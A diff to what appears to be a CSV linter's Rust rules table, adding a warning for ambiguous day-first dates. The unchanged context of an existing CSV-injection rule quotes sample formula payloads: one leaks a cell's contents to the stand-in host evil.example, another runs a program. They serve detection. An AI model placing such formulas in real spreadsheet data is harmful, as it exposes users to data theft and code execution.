@@ -356,6 +356,12 @@ rules! {
         "What it does: flags a cell of a free-text column that starts with `=`, `+`, `-`, `@`, a TAB or a carriage return, the characters OWASP's CSV-injection guidance lists, unless it is a number (`-5`, `+1.5`).\n\
          Why it matters: the platform takes the text as it is, but an export is often opened in a spreadsheet again, which runs such a cell as a formula: `=HYPERLINK(...)` leaks data when clicked, `=cmd|' /C calc'!A0` runs a program. The spec says nothing of it, so it is a warning.\n\
          Example: Name `=HYPERLINK(\"http://evil.example/?\"&A1,\"Ada\")`. Fix: remove the leading character if it is not meant; if it is, prefix the cell with a single quote (`'=...`), which spreadsheets show as text.";
+    DAY_FIRST_DATE = "C020", "day-first-date", Warning, "Resources and their fields",
+        "A date that reads both ways in a column written day first",
+        "What it does: in an `MM/DD/YYYY` column whose other cells read as dates only day first (`26/07/2021`), flags a valid cell whose numbers are both 12 or less and differ (`06/07/2019`), naming the cell that shows the order; in a column written both ways, names one cell of each. Nothing in a month-first or unknown column (the usual US file) nor in `YYYY-MM-DD` columns. The order is known at the column's end: a file of 8 MiB or less is checked again; a stream ends with an info note.\n\
+         Why it matters: the platform accepts the cell and reads it month first (June 7), while the column's writer most likely meant 6 July. That is a strong inference, not a certainty: a warning.\n\
+         Example: Start Date `06/07/2019` where line 9 has `26/07/2021`. Fix: write `07/06/2019` if 6 July is meant.",
+        fix Sometimes Unsafe "Unsafe (the column's evidence is strong, not certain): in a day-first column, swaps day and month (`06/07/2019` becomes `07/06/2019`, 6 July), made with the `invalid-date` fixes of the day-first cells, so that the fixed column reads month first throughout. None in a column written both ways.";
     MISSING_ONE_OF = "K001", "missing-one-of", Error, "Resources and their fields",
         "None of a group of columns is filled where one is needed",
         "What it does: checks groups of which at least one cell must be filled, optionally only on some rows (a review without ID needs an identity column).\n\
